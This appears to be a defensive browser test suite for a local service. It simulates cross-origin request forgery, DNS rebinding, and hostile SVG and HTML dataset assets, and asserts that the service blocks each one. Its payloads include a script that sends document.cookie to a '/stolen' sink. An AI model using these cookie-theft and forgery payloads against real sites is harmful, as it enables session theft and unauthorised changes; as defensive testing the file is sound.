import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { findChromium, NO_CHROMIUM } from '../../../../tools/browser/find-chromium.ts';
import { report, tally } from './report.ts';
import type { ServiceProcess } from './run-service.ts';
import { type OwnService, startService } from './start-service.ts';
import { ask, listDatasets, uploadLines } from './stored-datasets.ts';

const AREA = 'Attacks';
const found = await findChromium();

let cleanUp: AsyncDisposableStack;
let own: OwnService;
let service: ServiceProcess;
let browser: Browser;
let port: string;
/** the origin of a foreign page */
let evil: string;
/** what a service without any defence is sent */
const unprotected: IncomingMessage[] = [];
let unprotectedUrl: string;
beforeAll(async () => {
  cleanUp = new AsyncDisposableStack();
  if (found === null) return;
  own = cleanUp.use(await startService({ SVC_ALLOWED_HOSTS: 'svc.test' }, 'standalone'));
  service = own.service;
  port = new URL(service.url).port;
  const page = await listen(
    createServer((_request, response) =>
      response.setHeader('content-type', 'text/html').end('<!doctype html><title>evil</title><main></main>'),
    ),
  );
  evil = `http://evil.example:${page}`;
  const sink = await listen(
    createServer((request, response) => {
      unprotected.push(request);
      request.resume();
      request.on('end', () => response.setHeader('content-type', 'application/json').end('{}'));
    }),
  );
  unprotectedUrl = `http://127.0.0.1:${sink}`;
  browser = await chromium.launch({
    executablePath: found.executablePath,
    args: [
      ...found.args,
      '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP svc.test 127.0.0.1',
      // Chromium would ask its user before a page of the internet reaches this machine; other browsers do not.
      '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests',
    ],
  });
  cleanUp.defer(() => browser.close());
});
afterAll(() => cleanUp.disposeAsync());

async function listen(server: Server): Promise<number> {
  await once(server.listen(0, '127.0.0.1'), 'listening');
  cleanUp.defer(async () => {
    server.closeAllConnections();
    server.close();
    await once(server, 'close');
  });
  return (server.address() as AddressInfo).port;
}

/** What pages of a test do. It runs in the browser, where nothing of Node's types is true, so it is text. */
const IN_PAGE = `
  async function send(url, { method = 'GET', mode = 'cors', type, body }) {
    const form = new FormData();
    form.append('file', new Blob(['x']), 'a.zip');
    const headers = type === undefined ? {} : { 'Content-Type': type };
    try {
      const response = await fetch(url, { method, mode, headers, body: method === 'GET' ? undefined : (body ?? form) });
      return response.type === 'opaque' ? 'opaque' : 'read ' + response.status;
    } catch {
      return 'failed';
    }
  }

  const embed = (url, tag) => new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => {
      if (tag !== 'iframe') return resolve('read');
      try {
        resolve(element.contentDocument.body.textContent === '' ? 'blank' : 'read');
      } catch {
        resolve('blank');
      }
    };
    element.onerror = () => resolve('failed');
    element.src = url;
    document.body.append(element);
  });

  const submitForm = (url, enctype) => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'frame' + Math.random();
    const form = document.createElement('form');
    Object.assign(form, { action: url, method: 'POST', enctype, target: frame.name });
    const field = document.createElement('input');
    Object.assign(field, { name: '{"name":"', value: '"}' });
    form.append(field);
    // the empty frame loads immediately
    document.body.append(frame, form);
    frame.onload = () => resolve();
    form.submit();
  });

  Object.assign(globalThis, { send, embed, submitForm });
`;

/** A page whose document comes from the network, or, for one address alone, from a test. */
async function openPage(url: string, route?: (page: Page) => Promise<unknown>): Promise<Page> {
  const page = await browser.newPage();
  await page.addInitScript({ content: IN_PAGE });
  await route?.(page);
  await page.goto(url);
  return page;
}

const call = <T>(page: Page, name: string, ...values: readonly unknown[]): Promise<T> =>
  page.evaluate(`${name}(${values.map((value) => JSON.stringify(value)).join(', ')})`);

interface Sent {
  readonly method?: string;
  readonly mode?: 'no-cors';
  readonly type?: string;
  readonly body?: string;
}

/** Sends a request from within a page, as its scripts do; tells whether the page can read anything of the answer. */
const fetchFrom = (page: Page, url: string, init: Sent): Promise<string> => call(page, 'send', url, init);

/** Embeds something in a page as pages embed what is not theirs; tells whether it is there. */
const embed = (page: Page, tag: 'img' | 'script' | 'iframe', url: string): Promise<string> =>
  call(page, 'embed', url, tag);

/** Submits a form into a frame, as a page can to any address, and waits until the frame has its answer. */
const submitForm = (page: Page, url: string, enctype: string): Promise<void> =>
  call(page, 'submitForm', url, enctype);

/** Paths that change something when a request for them is taken. */
const CHANGES = ['/datasets/upload', '/runs', '/datasets/hub/import', '/telemetry/onboarding'];
const READS = ['/datasets', '/settings', '/openapi.json', '/metrics', '/healthz'];

/** The responses to the last requests that are not reads, from a line of the log on; at least `count` of them. */
async function changesSince(lines: number, count: number): Promise<string[]> {
  const all = (): string[] =>
    service
      .log()
      .slice(lines)
      .filter(({ event, method }) => event === 'http.request' && !['GET', 'OPTIONS'].includes(String(method)))
      .map(({ status_code, code }) => `${status_code} ${code}`);
  await expect.poll(() => all().length).toBeGreaterThanOrEqual(count);
  return all();
}

describe('a foreign page in a browser', () => {
  beforeEach((context) => void (found === null && context.skip(NO_CHROMIUM)));

  it('the browser sends cross-origin requests, so that an undefended service would change, and separates origins', async () => {
    const page = await openPage(evil);
    expect(
      await fetchFrom(page, `${unprotectedUrl}/datasets/upload`, { method: 'POST', mode: 'no-cors' }),
    ).toBe('opaque');
    await submitForm(page, `${unprotectedUrl}/datasets/upload`, 'multipart/form-data');
    expect(unprotected.map(({ method, headers }) => [method, headers.origin])).toEqual([
      ['POST', evil],
      ['POST', evil],
    ]);
    // or nothing below would mean anything
    expect(await fetchFrom(page, `${unprotectedUrl}/datasets`, {})).toBe('failed');
    await page.close();
  });

  it('reads nothing and changes nothing by simple requests and forms', async (context) => {
    const page = await openPage(evil);
    const before = service.lines.length;
    const read: string[] = [];
    let sent = 0;
    for (const host of ['127.0.0.1', 'localhost', 'svc.test']) {
      const base = `http://${host}:${port}`;
      for (const path of CHANGES) {
        for (const type of [undefined, 'text/plain', 'application/x-www-form-urlencoded']) {
          const init: Sent = {
            method: 'POST',
            mode: 'no-cors',
            ...(type === undefined ? {} : { type, body: '{}' }),
          };
          // an answer that its headers keep from other origins is none
          expect(await fetchFrom(page, base + path, init)).toBe('failed');
          sent += 1;
        }
        for (const enctype of ['multipart/form-data', 'text/plain', 'application/x-www-form-urlencoded']) {
          await submitForm(page, base + path, enctype);
          sent += 1;
        }
      }
      // these ask ahead, and get no leave
      for (const method of ['DELETE', 'PATCH', 'PUT'])
        read.push(
          await fetchFrom(page, `${base}/settings`, { method, type: 'application/json', body: '{}' }),
        );
      for (const path of READS) {
        read.push(
          await fetchFrom(page, base + path, {}),
          await fetchFrom(page, base + path, { mode: 'no-cors' }),
        );
        read.push(await embed(page, 'img', base + path), await embed(page, 'script', base + path));
      }
      for (const path of ['/docs/start.js', '/docs/swagger-ui-bundle.js']) {
        read.push(await embed(page, 'script', base + path));
      }
      expect(await embed(page, 'iframe', `${base}/docs`)).toBe('blank');
    }
    expect(tally(read)).toEqual({ failed: read.length });
    expect(tally(await changesSince(before, sent))).toEqual({ '403 cross_origin': sent });
    expect(await listDatasets(service.url)).toEqual([]);
    await expect.poll(() => service.stagedFiles()).toEqual([]);
    report(context, {
      area: AREA,
      scenario: 'in a browser, a foreign page sends simple requests and forms, reads and embeds responses',
      expected: 'changes get 403 `cross_origin`, responses cannot be read or embedded',
      runs: sent + read.length,
      observed: { '403 cross_origin': sent, 'nothing to read': read.length },
    });
    await page.close();
  });

  it('reads and changes nothing when its name resolves to the service', async (context) => {
    // Its document comes from the attacker; what it asks for then goes where its name points by then: to us.
    const rebound = `http://evil.example:${port}`;
    const document = { contentType: 'text/html', body: '<!doctype html><main></main>' };
    const page = await openPage(`${rebound}/attack`, (opening) =>
      opening.route(`${rebound}/attack`, (route) => route.fulfill(document)),
    );
    const before = service.lines.length;
    const outcomes: string[] = [];
    for (const path of [...READS, '/docs', '/nothing'])
      outcomes.push(await fetchFrom(page, rebound + path, {}));
    for (const path of CHANGES) {
      for (const type of ['application/json', 'text/plain', undefined]) {
        const init = { method: 'POST', ...(type === undefined ? {} : { type, body: '{}' }) };
        outcomes.push(await fetchFrom(page, rebound + path, init));
      }
      await submitForm(page, rebound + path, 'multipart/form-data');
    }
    for (const method of ['DELETE', 'PATCH']) {
      outcomes.push(
        await fetchFrom(page, `${rebound}/settings`, { method, type: 'application/json', body: '{}' }),
      );
    }
    expect(tally(outcomes)).toEqual({ 'read 421': outcomes.length });
    // a browser may send once more, on another connection, what was misdirected (RFC 9110 section 15.5.20)
    const changes = await changesSince(before, CHANGES.length * 4 + 2);
    expect(tally(changes)).toEqual({ '421 misdirected_request': changes.length });
    expect(await listDatasets(service.url)).toEqual([]);
    report(context, {
      area: AREA,
      scenario: 'in a browser, a page whose name resolves to the service (DNS rebinding) sends every request',
      expected: '421 `misdirected_request` for every request',
      runs: outcomes.length + CHANGES.length,
      observed: { '421 misdirected_request': outcomes.length + CHANGES.length },
    });
    await page.close();
  });

  it('our own page works over plain HTTP under an allowed name, and may change what is there', async (context) => {
    const base = `http://svc.test:${port}`;
    const faults: string[] = [];
    const page = await openPage(`${base}/docs`, async (opening) => {
      opening.on('pageerror', (error) => faults.push(String(error)));
      opening.on('requestfailed', (request) => faults.push(request.url()));
      opening.on('request', (request) => {
        const isOurs = request.url().startsWith(`${base}/`) || request.url().startsWith('data:');
        if (!isOurs) faults.push(`asks ${request.url()}`);
      });
    });
    await page.locator('.opblock').first().waitFor({ timeout: 30_000 });
    expect(await page.locator('.opblock').count()).toBeGreaterThan(15);
    expect(faults).toEqual([]);
    const body = '{"cancellation_check_interval_ms":1234}';
    expect(
      await fetchFrom(page, `${base}/settings`, { method: 'PATCH', type: 'application/json', body }),
    ).toBe('read 200');
    expect((await ask(`${service.url}/settings`)).body.cancellation_check_interval_ms).toBe(1234);
    report(context, {
      area: AREA,
      scenario: '`/docs` in a browser, over plain HTTP and under a name that is not loopback',
      expected: 'shows every operation, and can try them',
      runs: 1,
      observed: { 'as expected': 1 },
    });
    await page.close();
  });

  it('hostile images, pages and documents of a dataset run nothing and ask for nothing', async (context) => {
    const script = `fetch('${unprotectedUrl}/stolen', { method: 'POST', mode: 'no-cors', body: document.cookie }); document.title = 'taken'; top.document.title = 'taken';`;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script.replaceAll('"', '&quot;')}"><script>${script}</script><image href="${unprotectedUrl}/image"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${unprotectedUrl}/frame"/></foreignObject><text y="20">drawn</text></svg>`;
    const html = `<!doctype html><title>page</title><script>${script}</script><img src="${unprotectedUrl}/image">`;
    const hostile: readonly (readonly [mimeType: string, content: string])[] = [
      ['image/svg+xml', svg],
      ['IMAGE/SVG+XML; charset=utf-8', ` ${svg}`],
      ['text/plain', html],
      ['image/png', `  ${html}`],
      ['text/html', ` ${html}`],
      ['application/xhtml+xml', `   ${html}`],
      ['text/javascript', script],
      ['application/octet-stream', `    ${html}`],
    ];
    const assets = hostile.map(([mime_type, content]) => {
      return { mime_type, encoding: 'base64', data: Buffer.from(content).toString('base64') };
    });
    const id = await uploadLines(service.url, [JSON.stringify({ inputs: { prompt: 'p' }, assets })]);
    const sent = unprotected.length;
    const outcomes: string[] = [];
    for (const [mimeType, content] of hostile) {
      const sha256 = createHash('sha256').update(content).digest('hex');
      const url = `${service.url}/datasets/${id}/assets/${sha256}`;
      const page = await openPage(`${service.url}/healthz`);
      const asked: string[] = [];
      // A request that the policy blocks is reported too, but has no response.
      page.on('response', (response) => asked.push(response.url()));
      // Embedded in a page of the service, and opened by itself.
      await embed(page, 'img', url);
      await embed(page, 'script', url);
      const download = page.waitForEvent('download').then(
        () => 'download',
        () => 'shown',
      );
      const opened = page.goto(url).then(
        () => 'shown',
        () => download,
      );
      outcomes.push(`${await opened} ${mimeType.split(';')[0]?.toLowerCase()}`);
      expect(await page.title()).not.toBe('taken');
      expect(asked.filter((one) => !one.startsWith(service.url))).toEqual([]);
      await page.close();
    }
    expect(unprotected.slice(sent)).toEqual([]);
    expect(tally(outcomes)).toEqual({
      'shown image/svg+xml': 2,
      'shown text/plain': 1,
      'shown image/png': 1,
      'download text/html': 1,
      'download application/xhtml+xml': 1,
      'download text/javascript': 1,
      'download application/octet-stream': 1,
    });
    report(context, {
      area: AREA,
      scenario: 'hostile SVG, HTML and scripts as assets of a dataset, opened and embedded in a browser',
      expected: 'no script runs, nothing is requested; what is not safe to show is a download',
      runs: outcomes.length,
      observed: { 'nothing ran or was requested': outcomes.length },
    });
  });
});
